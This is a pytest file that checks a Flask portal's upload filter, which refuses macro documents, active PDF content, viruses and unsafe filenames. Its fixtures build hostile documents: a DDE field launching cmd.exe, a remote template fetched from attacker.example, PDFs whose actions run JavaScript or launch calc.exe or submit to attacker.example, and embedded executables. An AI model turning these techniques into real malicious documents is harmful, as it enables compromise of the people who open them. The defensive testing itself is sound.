"""Uploads: the allowlist by content and final extension together, safe names, macros and active
PDF content refused, and the virus scan by a real clamd (tests/clamd.py).

Every file here is built by the test: documents with python-docx and zipfile, PDFs with pypdf
(and pikepdf for object streams), OLE containers by hand. The services are tested through
`check_file`, and every upload form once per kind of refusal that matters to its user.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf
import pytest
import sqlalchemy as sa
from flask_babel import force_locale
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from portal.core import activecontent, clamd, uploads
from portal.core.permissions import Role
from portal.core.uploads import UploadRejected, check_file
from portal.disclosure.models import LegalDocument
from portal.extensions import db
from portal.lawyers.models import CaseBinding, CaseFileDelivery
from portal.petitions import services as petitions
from portal.petitions.models import Attachment, Petition
from tests.clamd import EICAR
from tests.factories import login, make_petition, make_user
from tests.lawyers.factories import binding_form, login_lawyer, make_case, make_lawyer
from tests.web import ClientRequest, url

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# ---- files built here ---------------------------------------------------------------------------


def png() -> bytes:
    def chunk(kind, body):
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\x00"))
        + chunk(b"IEND", b"")
    )


JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64


def docx(text="本人九月向派出所报案。") -> bytes:
    import docx as python_docx

    document = python_docx.Document()
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def rewrite_zip(data: bytes, *, replace=None, add=None) -> bytes:
    """A copy of the package with some parts' text replaced and parts added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            body = source.read(item.filename)
            for (part, old), new in (replace or {}).items():
                if item.filename == part:
                    assert old in body, (part, old)
                    body = body.replace(old, new)
            target.writestr(item, body)
        for name, body in (add or {}).items():
            target.writestr(name, body)
    return out.getvalue()


def ole(*paths: tuple[str, ...]) -> bytes:
    """A minimal OLE compound file (version 3, 512-byte sectors) holding empty storages and
    streams at `paths`, e.g. ("VBA", "_VBA_PROJECT"): enough for olefile to list them."""
    entries = [("Root Entry", 5, [])]  # (name, type, children indexes)
    index = {(): 0}
    for path in paths:
        for depth in range(1, len(path) + 1):
            key = tuple(path[:depth])
            if key not in index:
                index[key] = len(entries)
                entries.append((key[-1], 2 if depth == len(path) else 1, []))
                entries[index[key[:-1]]][2].append(index[key])
    free, end = 0xFFFFFFFF, 0xFFFFFFFE
    directory = b""
    for name, kind, children in entries:
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        # Siblings as a right-leaning chain; the first child hangs below its storage.
        child = children[0] if children else free
        directory += (
            encoded.ljust(64, b"\x00")
            + struct.pack("<HBB", len(encoded), kind, 1)
            + struct.pack("<III", free, free, child)
            + b"\x00" * 16
            + b"\x00" * 4
            + b"\x00" * 16
            + struct.pack("<IIi", end, 0, 0)
        )
    # Fix the sibling links: each child's right sibling is the next child of the same storage.
    directory = bytearray(directory)
    for _name, _kind, children in entries:
        for left, right in zip(children, children[1:], strict=False):
            struct.pack_into("<I", directory, left * 128 + 72, right)
    directory = bytes(directory).ljust(512 * -(-len(directory) // 512), b"\x00")
    directory_sectors = len(directory) // 512
    fat = [0xFFFFFFFD] + [i + 2 for i in range(directory_sectors - 1)] + [end]
    fat_sector = b"".join(struct.pack("<I", n) for n in fat).ljust(512, b"\xff")
    header = (
        activecontent.OLE_MAGIC
        + b"\x00" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\x00" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
        + struct.pack("<I", 0)
        + b"\xff" * (109 * 4 - 4)
    )
    return header + fat_sector + directory


def docm() -> bytes:
    """A Word document with a VBA project, as Word saves it (.docm)."""
    return rewrite_zip(
        docx(),
        replace={
            ("[Content_Types].xml", b"wordprocessingml.document.main+xml"): (
                b"ms-word.document.macroEnabled.main+xml"
            ),
        },
        add={"word/vbaProject.bin": ole(("VBA", "_VBA_PROJECT"), ("PROJECT",))},
    )


def workbook(*, macros: bool) -> bytes:
    """A minimal spreadsheet package: .xlsm with a VBA project, or a plain .xlsx."""
    main = (
        "vnd.ms-excel.sheet.macroEnabled"
        if macros
        else ("vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    )
    project = (
        '<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        if macros
        else ""
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr(
            "[Content_Types].xml",
            f'<Types xmlns="{CT}"><Override PartName="/xl/workbook.xml" '
            f'ContentType="application/{main}.main+xml"/>{project}</Types>',
        )
        package.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{OFFICE_RELS}/'
            'officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        package.writestr("xl/workbook.xml", "<workbook/>")
        if macros:
            package.writestr("xl/vbaProject.bin", ole(("VBA", "_VBA_PROJECT")))
    return out.getvalue()


def xlsm() -> bytes:
    return workbook(macros=True)


def pdf(build=None, *, info=None) -> bytes:
    """A one-page PDF written by pypdf; `build(writer)` adds to it before it is written."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if info:
        writer.add_metadata(info)
    if build:
        build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def action(kind, **entries):
    return DictionaryObject(
        {NameObject("/S"): NameObject(kind)}
        | {NameObject(f"/{key}"): value for key, value in entries.items()}
    )


def open_action(kind, **entries):
    def build(writer):
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action(kind, **entries))

    return build


def javascript_name_tree(writer):
    script = writer._add_object(action("/JavaScript", JS=TextStringObject("app.alert(1)")))
    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("x"), script])})
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(names)}
    )


def link_annotation_with_launch(writer):
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([]),
            NameObject("/A"): action("/Launch", F=TextStringObject("cmd.exe")),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def eicar_stream(writer):
    stream = DecodedStreamObject()
    stream.set_data(EICAR)
    writer._root_object[NameObject("/PieceInfo")] = writer._add_object(stream)


def in_object_streams(data: bytes) -> bytes:
    """The same PDF saved by qpdf with every object it can inside compressed object streams."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as document:
        document.save(
            out,
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
            compress_streams=True,
        )
    return out.getvalue()


def with_orphan(data: bytes, body: bytes) -> bytes:
    """An object that no cross-reference table lists, inserted before the last %%EOF: a viewer
    that rebuilds the table would find it, pypdf does not."""
    cut = data.rindex(b"xref")
    return data[:cut] + b"99 0 obj\n" + body + b"\nendobj\n" + data[cut:]


PDF = pdf()
JS_OPEN_ACTION = pdf(open_action("/JavaScript", JS=TextStringObject("app.alert(1)")))
LAUNCH = pdf(open_action("/Launch", F=TextStringObject("calc.exe")))
EMBEDDED = pdf(lambda writer: writer.add_attachment("payload.exe", b"MZ\x90\x00"))
JS_IN_OBJECT_STREAM = in_object_streams(JS_OPEN_ACTION)


# ---- names -------------------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def _english_messages():
    """Messages from the services in English (the forms below choose their language)."""
    with force_locale("en"):
        yield


@pytest.mark.parametrize(
    ("name", "content", "stored"),
    [
        ("材料.pdf", PDF, "材料.pdf"),
        ("扫描件.PDF", PDF, "扫描件.pdf"),
        ("照片.jpeg", JPEG, "照片.jpg"),
        ("照片.JPG", JPEG, "照片.jpg"),
        ("截图.png", png(), "截图.png"),
        ("起诉书.docx", docx(), "起诉书.docx"),
        ("report.exe.pdf", PDF, "report_exe.pdf"),  # never served with a dangerous inner one
        ("report.pdf.", PDF, "report.pdf"),  # Windows drops the trailing dot
        ("C:\\Users\\me\\a.b.c.pdf", PDF, "a_b_c.pdf"),
        ("../../etc/x.pdf", PDF, "x.pdf"),
        ("invoice\u202egpj.pdf", PDF, "invoicegpj.pdf"),  # a bidi override is dropped
        ("CON.pdf", PDF, "_CON.pdf"),
        ("a<b>:c|d?.pdf", PDF, "a_b_c_d.pdf"),
        ("报告\u3000终稿.pdf", PDF, "报告终稿.pdf"),
        ("报告  终稿 .pdf", PDF, "报告 终稿.pdf"),
        ("报告．pdf", PDF, "报告.pdf"),  # a full-width dot is a dot
        ("长" * 300 + ".pdf", PDF, "长" * 100 + ".pdf"),  # shortened before the extension
    ],
)
def test_accepted_files_are_kept_under_a_safe_name(name, content, stored):
    checked = check_file(name, content)
    assert (checked.filename, checked.data) == (stored, content)


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("report.pdf.exe", PDF, "is a PDF file, but its name ends in .exe"),
        ("report.pdf．exe", PDF, "is a PDF file, but its name ends in .exe"),
        ("photo.pdf", png(), "is a PNG file, but its name ends in .pdf"),
        ("photo.png", JPEG, "is a JPEG file, but its name ends in .png"),
        ("document.docm", docx(), "is a DOCX file, but its name ends in .docm"),
        ("scan.html", PDF, "is a PDF file, but its name ends in .html"),
        (".pdf", PDF, "must end in .pdf, .jpg, .png or .docx and have a name before that"),
        ("...pdf", PDF, "must end in .pdf, .jpg, .png or .docx and have a name before that"),
        ("\u202e.pdf", PDF, "must end in .pdf, .jpg, .png or .docx and have a name before that"),
        ("report", PDF, "must end in .pdf, .jpg, .png or .docx and have a name before that"),
        ("report.", PDF, "must end in .pdf, .jpg, .png or .docx and have a name before that"),
        ("", PDF, "must end in .pdf, .jpg, .png or .docx and have a name before that"),
        ("page.pdf", b"<html><script>alert(1)</script>", "is not a PDF, JPEG, PNG or DOCX"),
        ("a.pdf", b"MZ\x90\x00" + b"\x00" * 100, "is not a PDF, JPEG, PNG or DOCX"),
    ],
)
def test_the_final_extension_must_fit_the_content(name, content, message):
    with pytest.raises(UploadRejected, match=message.replace(".", r"\.").replace("?", r"\?")):
        check_file(name, content)


def test_records_stored_before_these_checks_are_served_under_a_safe_name(client_request):
    petition, _ = make_petition(
        uploads=[petitions.uploads.CheckedUpload("report.pdf.exe", "application/pdf", PDF)]
    )
    login(client_request.client, make_user(Role.CLERK))
    attachment = db.session.scalar(sa.select(Attachment))
    response = client_request.client.get(
        url(
            "backoffice.download_attachment",
            number=petition.tracking_number,
            attachment_id=attachment.id,
        )
    )
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == "attachment; filename=report_pdf_exe.pdf"


@pytest.mark.parametrize(
    ("filename", "content_type", "served"),
    [
        ("a.pdf.exe", "application/pdf", "a_pdf_exe.pdf"),
        (".pdf", "application/pdf", "attachment.pdf"),
        ("照片.jpeg", "image/jpeg", "照片.jpg"),
        ("x.html", "text/html", "attachment"),
        (None, "image/png", "attachment.png"),
    ],
)
def test_served_names(filename, content_type, served):
    assert uploads.served_name(filename, content_type) == served


# ---- macros and active Office content ---------------------------------------------------------


def docx_with(**changes) -> bytes:
    return rewrite_zip(docx(), **changes)


MACRO = "contains macros"
ACTIVE = "contains embedded programs, controls, automatic links or a template from elsewhere"


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("宏.docm", docm(), MACRO),
        ("宏.docx", docm(), MACRO),  # renamed: the content decides
        ("表.xlsm", xlsm(), MACRO),
        ("表.xlsx", xlsm(), MACRO),
        ("旧.doc", ole(("Macros", "VBA", "_VBA_PROJECT"), ("WordDocument",)), MACRO),
        # A .docx whose content types were left as Word writes them but that carries a project.
        ("藏宏.docx", docx_with(add={"word/vbaProject.bin": b"\x00" * 10}), MACRO),
        # VBA inside an embedded OLE object.
        (
            "嵌入.docx",
            docx_with(add={"word/embeddings/oleObject1.bin": ole(("VBA", "_VBA_PROJECT"))}),
            MACRO,
        ),
        # A macro-enabled workbook embedded in the document.
        ("嵌表.docx", docx_with(add={"word/embeddings/Book1.xlsm": xlsm()}), MACRO),
        # A packaged file (an OLE "Package" object that runs what it holds on a double click).
        (
            "包.docx",
            docx_with(add={"word/embeddings/oleObject1.bin": ole(("\x01Ole10Native",))}),
            ACTIVE,
        ),
        ("控件.docx", docx_with(add={"word/activeX/activeX1.xml": b"<ax/>"}), ACTIVE),
        # A DDE field, its instruction split over two runs as attackers write it.
        (
            "域.docx",
            docx_with(
                replace={
                    ("word/document.xml", b"</w:body>"): (
                        b"<w:p><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>"
                        b'EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>'
                        b"</w:r></w:p></w:body>"
                    )
                }
            ),
            ACTIVE,
        ),
        # Remote template injection: Word fetches a macro template when the file is opened.
        (
            "模板.docx",
            docx_with(
                add={
                    "word/_rels/settings.xml.rels": (
                        f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" '
                        f'Type="{OFFICE_RELS}/attachedTemplate" '
                        'Target="http://attacker.example/t.dotm" TargetMode="External"/>'
                        "</Relationships>"
                    )
                }
            ),
            ACTIVE,
        ),
    ],
)
def test_office_files_with_macros_or_active_content_are_refused(name, content, message):
    with pytest.raises(UploadRejected, match=message):
        check_file(name, content)


def test_a_plain_docx_with_an_embedded_workbook_and_a_hyperlink_is_accepted():
    import docx as python_docx

    document = python_docx.Document()
    paragraph = document.add_paragraph("见 ")
    relation = document.part.relate_to(
        "https://www.spp.gov.cn/",
        f"{OFFICE_RELS}/hyperlink",
        is_external=True,
    )
    assert relation
    paragraph.add_run("最高人民检察院")
    out = io.BytesIO()
    document.save(out)
    content = rewrite_zip(
        out.getvalue(),
        add={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook(macros=False)},
    )
    assert check_file("说明.docx", content).filename == "说明.docx"


def test_the_main_part_decides_what_an_office_package_is():
    # Its content type given by extension (Default) rather than by part name (Override).
    by_default = docx_with(
        replace={
            ("[Content_Types].xml", b'<Default Extension="xml" ContentType="application/xml"/>'): (
                b'<Default Extension="xml" ContentType="application/vnd.openxmlformats-'
                b'officedocument.wordprocessingml.document.main+xml"/>'
            ),
            ("[Content_Types].xml", b'<Override PartName="/word/document.xml" ContentType='
             b'"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'):
            b"",
        }
    )  # fmt: skip
    assert check_file("文书.docx", by_default).content_type == DOCX
    template = docx_with(
        replace={
            ("[Content_Types].xml", b"wordprocessingml.document.main+xml"): (
                b"wordprocessingml.template.main+xml"
            )
        }
    )
    with pytest.raises(UploadRejected, match="is not a PDF, JPEG, PNG or DOCX"):
        check_file("模板.docx", template)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as package:
        package.writestr("word/document.xml", "<x/>")
    with pytest.raises(UploadRejected, match="is not a PDF, JPEG, PNG or DOCX"):
        check_file("压缩包.docx", archive.getvalue())


@pytest.mark.parametrize(
    "content",
    [
        b"PK\x03\x04broken" + b"\x00" * 40,
        docx_with(
            replace={("[Content_Types].xml", b"<Types"): b"<!DOCTYPE x [<!ENTITY a 'b'>]><Types"}
        ),
        docx_with(add={"word/embeddings/oleObject1.bin": activecontent.OLE_MAGIC + b"\x00" * 50}),
    ],
)
def test_office_files_that_cannot_be_read_are_refused(content):
    with pytest.raises(UploadRejected):
        check_file("文书.docx", content)


# ---- active PDF content -------------------------------------------------------------------------

JS = "contains JavaScript"
LAUNCHES = "contains an action that opens a program or another file"
ATTACHED = "has other files attached inside it"
UNREADABLE = "could not be read as a PDF"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (JS_OPEN_ACTION, JS),
        (pdf(javascript_name_tree), JS),
        (JS_IN_OBJECT_STREAM, JS),
        (LAUNCH, LAUNCHES),
        (in_object_streams(LAUNCH), LAUNCHES),
        (pdf(link_annotation_with_launch), LAUNCHES),
        (pdf(open_action("/GoToR", F=TextStringObject("\\\\attacker\\share\\x.pdf"))), LAUNCHES),
        (pdf(open_action("/SubmitForm", F=TextStringObject("http://attacker.example/"))), LAUNCHES),
        (EMBEDDED, ATTACHED),
        (in_object_streams(EMBEDDED), ATTACHED),
        # Names may be written with #xx escapes: /J#53 is /JS.
        (JS_OPEN_ACTION.replace(b"/JS ", b"/J#53 "), JS),
        # An object no cross-reference table lists, found by the byte-level scan.
        (with_orphan(PDF, b"<< /S /Launch /F (calc.exe) >>"), LAUNCHES),
        (with_orphan(PDF, b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"), JS),
        # Malformed: pypdf cannot open them; the byte-level scan names what it saw.
        (b"%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (x) >> >>", JS),
        (b"%PDF-1.7\n1 0 obj << /EmbeddedFiles 2 0 R >>", ATTACHED),
        (b"%PDF-1.7\nnothing else", UNREADABLE),
        (PDF[: len(PDF) // 2], UNREADABLE),
    ],
)
def test_pdfs_with_active_content_are_refused(content, message):
    with pytest.raises(UploadRejected, match=message):
        check_file("材料.pdf", content)


def test_the_objects_really_are_hidden_in_object_streams():
    # What a byte search would miss: the action is inside a compressed object stream.
    assert b"/JavaScript" not in JS_IN_OBJECT_STREAM and b"/ObjStm" in JS_IN_OBJECT_STREAM


@pytest.mark.parametrize(
    "content",
    [
        PDF,
        in_object_streams(PDF),
        # Text that only looks like names, in a string, a comment and the document's title.
        pdf(info={"/Title": "关于 /JavaScript 与 /Launch 的说明"}),
        PDF.replace(b"%PDF-1.3\n", b"%PDF-1.3\n% /JS /Launch\n"),
        # An ordinary link to a web page, and a destination as the open action.
        pdf(open_action("/URI", URI=TextStringObject("https://www.spp.gov.cn/"))),
    ],
)
def test_ordinary_pdfs_are_accepted(content):
    assert check_file("材料.pdf", content).content_type == "application/pdf"


def test_an_encrypted_pdf_is_accepted_only_when_it_opens_without_a_password():
    def encrypted(user_password, algorithm, content=PDF):
        writer = PdfWriter(clone_from=io.BytesIO(content))
        writer.encrypt(user_password=user_password, owner_password="owner", algorithm=algorithm)
        out = io.BytesIO()
        writer.write(out)
        return out.getvalue()

    assert check_file("权限.pdf", encrypted("", "RC4-128")).filename == "权限.pdf"
    assert check_file("权限.pdf", encrypted("", "AES-256")).filename == "权限.pdf"
    for algorithm in ("RC4-128", "AES-128"):
        with pytest.raises(UploadRejected, match=UNREADABLE):
            check_file("加密.pdf", encrypted("secret", algorithm))
    with pytest.raises(UploadRejected, match=JS):
        check_file("加密.pdf", encrypted("", "AES-128", JS_OPEN_ACTION))


# ---- the virus scan -----------------------------------------------------------------------------

VIRUS = "contains a virus or other harmful content"
SCANNER_DOWN = "Files cannot be checked for viruses at the moment"
EICAR_PDF = pdf(eicar_stream)


def test_without_a_scanner_nothing_is_scanned(app):
    assert not app.config["CLAMD_SOCKET"] and not app.config["CLAMD_HOST"]
    assert check_file("样本.pdf", EICAR_PDF).content_type == "application/pdf"


def test_clamd_finds_the_test_signature_inside_a_pdf(virus_scanner):
    scanner = clamd.Scanner(unix_socket=virus_scanner)
    assert scanner.scan(EICAR_PDF) == "Eicar-Test-Body.UNOFFICIAL"
    assert scanner.scan(PDF) is None
    with pytest.raises(UploadRejected, match=VIRUS):
        check_file("样本.pdf", EICAR_PDF)
    assert check_file("材料.pdf", PDF).filename == "材料.pdf"


def test_clamd_scans_streams_larger_than_one_chunk(virus_scanner):
    scanner = clamd.Scanner(unix_socket=virus_scanner)
    big = b"\x00" * (3 * clamd.CHUNK_BYTES + 17) + EICAR
    assert scanner.scan(big) == "Eicar-Test-Body.UNOFFICIAL"


def test_a_scanner_that_does_not_answer_refuses_the_file(app, tmp_path, caplog, monkeypatch):
    monkeypatch.setattr(uploads.log, "disabled", False)  # the migrations' logging config
    app.config["CLAMD_SOCKET"] = str(tmp_path / "no-such.sock")
    try:
        with pytest.raises(UploadRejected, match=SCANNER_DOWN):
            check_file("材料.pdf", PDF)
    finally:
        app.config["CLAMD_SOCKET"] = None
    assert "Virus scanner unavailable" in caplog.text


def test_a_tcp_scanner_that_does_not_answer_refuses_the_file(app):
    import socket

    with socket.socket() as unused:
        unused.bind(("127.0.0.1", 0))
        port = unused.getsockname()[1]  # nothing listens there once closed
    app.config.update(CLAMD_HOST="127.0.0.1", CLAMD_PORT=port, CLAMD_TIMEOUT=2)
    try:
        with pytest.raises(UploadRejected, match=SCANNER_DOWN):
            check_file("材料.pdf", PDF)
    finally:
        app.config.update(CLAMD_HOST=None, CLAMD_PORT=3310, CLAMD_TIMEOUT=30)


def test_the_socket_is_tried_first_and_tcp_next(virus_scanner, tmp_path):
    scanner = clamd.Scanner(unix_socket=str(tmp_path / "gone.sock"), host="127.0.0.1", port=1)
    with pytest.raises(clamd.ScannerUnavailable):
        scanner.scan(PDF)
    assert clamd.Scanner(unix_socket=virus_scanner, host="127.0.0.1", port=1).scan(PDF) is None


@pytest.mark.parametrize(
    ("reply", "verdict"),
    [
        ("stream: OK", None),
        ("stream: Eicar-Test-Signature FOUND", "Eicar-Test-Signature"),
        ("stream: Win.Test.EICAR_HDB-1 FOUND", "Win.Test.EICAR_HDB-1"),
    ],
)
def test_clamd_replies(reply, verdict):
    assert clamd._verdict(reply) == verdict


@pytest.mark.parametrize("reply", ["INSTREAM size limit exceeded. ERROR", "", "UNKNOWN COMMAND"])
def test_clamd_errors_mean_the_scanner_is_unavailable(reply):
    with pytest.raises(clamd.ScannerUnavailable):
        clamd._verdict(reply)


# ---- through every form with a file field -------------------------------------------------------

PETITION = {
    "kind": "complaint",
    "name": "刘某某",
    "mobile": "138 0000 0001",
    "subject": "反映派出所不予立案",
    "body": "本人九月向派出所报案，至今未予立案，请求检察机关依法监督。",
    "declaration": "y",
}


def file(content, name):
    return (io.BytesIO(content), name)


def error_summary(page) -> str:
    return page.select_one(".error-summary").get_text(" ", strip=True)


def petition_form(client_request, attachments, *, locale):
    client_request.client.set_cookie("portal_locale", locale)
    tokens = client_request.form_fields("petitions.new_petition")
    return client_request.post(
        "petitions.new_petition",
        _data={**tokens, **PETITION, "attachments": attachments},
        _expected_status=400,
    )


@pytest.mark.parametrize(
    ("locale", "message"),
    [("en", "contains macros, which are not accepted"), ("zh_Hans_CN", "宏")],
)
def test_the_petition_form_refuses_a_macro_document_and_keeps_what_was_typed(
    client_request, locale, message
):
    page = petition_form(
        client_request, [file(png(), "照片.png"), file(docm(), "材料.docm")], locale=locale
    )
    assert message in error_summary(page)
    assert page.select_one("input[name=subject]")["value"] == PETITION["subject"]
    assert page.select_one("textarea[name=body]").get_text().strip() == PETITION["body"]
    assert page.select_one("input[name=name]")["value"] == PETITION["name"]
    assert db.session.scalar(sa.select(sa.func.count(Petition.id))) == 0
    assert db.session.scalar(sa.select(sa.func.count(Attachment.id))) == 0


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("report.pdf.exe", PDF, "is a PDF file, but its name ends in .exe"),
        (".pdf", PDF, "have a name before that"),
        ("photo.pdf", png(), "is a PNG file, but its name ends in .pdf"),
        ("表.xlsm", xlsm(), "contains macros"),
        ("材料.pdf", JS_IN_OBJECT_STREAM, "contains JavaScript"),
        ("材料.pdf", LAUNCH, "opens a program or another file"),
        ("材料.pdf", EMBEDDED, "has other files attached inside it"),
    ],
)
def test_the_petition_form_refuses_each_kind_of_bad_file(client_request, name, content, message):
    page = petition_form(client_request, [file(content, name)], locale="en")
    assert message in error_summary(page)
    assert page.select_one("input[name=subject]")["value"] == PETITION["subject"]


def test_the_petition_form_refuses_a_virus(client_request, virus_scanner):
    page = petition_form(client_request, [file(EICAR_PDF, "材料.pdf")], locale="en")
    assert VIRUS in error_summary(page)
    zh = petition_form(client_request, [file(EICAR_PDF, "材料.pdf")], locale="zh_Hans_CN")
    assert "病毒" in error_summary(zh)


def test_the_petition_form_stores_the_safe_name(client_request):
    client_request.client.set_cookie("portal_locale", "en")
    tokens = client_request.form_fields("petitions.new_petition")
    client_request.post(
        "petitions.new_petition",
        _data={**tokens, **PETITION, "attachments": [file(PDF, "情况说明.exe.PDF")]},
        _expected_status=200,
    )
    assert db.session.scalar(sa.select(Attachment.filename)) == "情况说明_exe.pdf"


def bind(lawyer, case, **files):
    return lawyer.post("lawyers.bind_case", _data=binding_form(case, **files), _expected_status=400)


@pytest.mark.parametrize(
    ("field", "name", "content", "message"),
    [
        ("licence", "执业证.pdf", JS_OPEN_ACTION, "contains JavaScript"),
        ("firm_letter", "所函.docx", docm(), "contains macros"),
        ("mandate_file", "委托书.pdf.exe", PDF, "but its name ends in .exe"),
    ],
)
def test_the_binding_form_refuses_bad_papers_and_keeps_what_was_typed(
    app, field, name, content, message
):
    case = make_case()
    lawyer = ClientRequest(app.test_client())
    login_lawyer(lawyer.client, make_lawyer())
    lawyer.client.set_cookie("portal_locale", "en")
    page = bind(lawyer, case, **{field: file(content, name)})
    assert message in error_summary(page)
    assert page.select_one("input[name=case_number]")["value"] == case.case_number
    assert page.select_one("input[name=client_name]")["value"] == "赵某"
    assert db.session.scalar(sa.select(sa.func.count(CaseBinding.id))) == 0


def test_the_binding_form_refuses_a_virus(app, virus_scanner):
    case = make_case()
    lawyer = ClientRequest(app.test_client())
    login_lawyer(lawyer.client, make_lawyer())
    page = bind(lawyer, case, licence=file(EICAR_PDF, "执业证.pdf"))
    assert "病毒" in error_summary(page)


def approved_binding(app):
    case = make_case()
    lawyer = ClientRequest(app.test_client())
    login_lawyer(lawyer.client, make_lawyer())
    lawyer.post("lawyers.bind_case", _data=binding_form(case))
    binding = db.session.scalar(sa.select(CaseBinding))
    staff = ClientRequest(app.test_client())
    login(staff.client, make_user(Role.HANDLER))
    staff.post("lawyers_admin.approve_binding", binding_id=binding.id)
    return staff, binding


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("电子卷宗.pdf.exe", PDF, "is a PDF file, but its name ends in .exe"),
        ("电子卷宗.pdf", EMBEDDED, "has other files attached inside it"),
        (".pdf", PDF, "have a name before that"),
    ],
)
def test_the_delivery_form_refuses_bad_files(app, name, content, message):
    staff, binding = approved_binding(app)
    staff.client.set_cookie("portal_locale", "en")
    page = staff.post(
        "lawyers_admin.deliver_case_file",
        binding_id=binding.id,
        _data={
            "deliver-csrf_token": staff.csrf_token(),
            "deliver-days": "7",
            "deliver-case_file": file(content, name),
        },
        _expected_status=409,
    )
    assert message in page.get_text(" ")
    assert page.select_one("input[name=deliver-days]")["value"] == "7"
    assert db.session.scalar(sa.select(sa.func.count(CaseFileDelivery.id))) == 0


def test_the_delivery_form_refuses_a_virus_and_stores_the_safe_name(app, virus_scanner):
    staff, binding = approved_binding(app)
    page = staff.post(
        "lawyers_admin.deliver_case_file",
        binding_id=binding.id,
        _data={
            "deliver-csrf_token": staff.csrf_token(),
            "deliver-days": "7",
            "deliver-case_file": file(EICAR_PDF, "电子卷宗.pdf"),
        },
        _expected_status=409,
    )
    assert "病毒" in page.get_text(" ")
    staff.post(
        "lawyers_admin.deliver_case_file",
        binding_id=binding.id,
        _data={
            "deliver-csrf_token": staff.csrf_token(),
            "deliver-days": "7",
            "deliver-case_file": file(PDF, "卷宗.exe.pdf"),
        },
    )
    assert db.session.scalar(sa.select(CaseFileDelivery.filename)) == "卷宗_exe.pdf"


DOCUMENT = {
    "doc_type": "non_prosecution",
    "procuratorate": "示例市东城区人民检察院",
    "case_number": "东检刑不诉〔2024〕7号",
    "document_date": "2024-05-10",
}


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("决定书.docx", docm(), "contains macros"),
        ("决定书.pdf", JS_IN_OBJECT_STREAM, "contains JavaScript"),
        ("决定书.pdf", LAUNCH, "opens a program or another file"),
    ],
)
def test_the_disclosure_upload_refuses_active_content(client_request, name, content, message):
    login(client_request.client, make_user(Role.PUBLISHER))
    client_request.client.set_cookie("portal_locale", "en")
    page = client_request.post(
        "disclosure_admin.new_document",
        _data={**DOCUMENT, "upload": file(content, name)},
        _expected_status=400,
    )
    assert message in error_summary(page)
    assert page.select_one("input[name=case_number]")["value"] == DOCUMENT["case_number"]
    assert db.session.scalar(sa.select(sa.func.count(LegalDocument.id))) == 0


def test_the_disclosure_upload_refuses_a_virus(client_request, virus_scanner):
    login(client_request.client, make_user(Role.PUBLISHER))
    page = client_request.post(
        "disclosure_admin.new_document",
        _data={**DOCUMENT, "upload": file(EICAR_PDF, "决定书.pdf")},
        _expected_status=400,
    )
    assert "病毒" in error_summary(page)
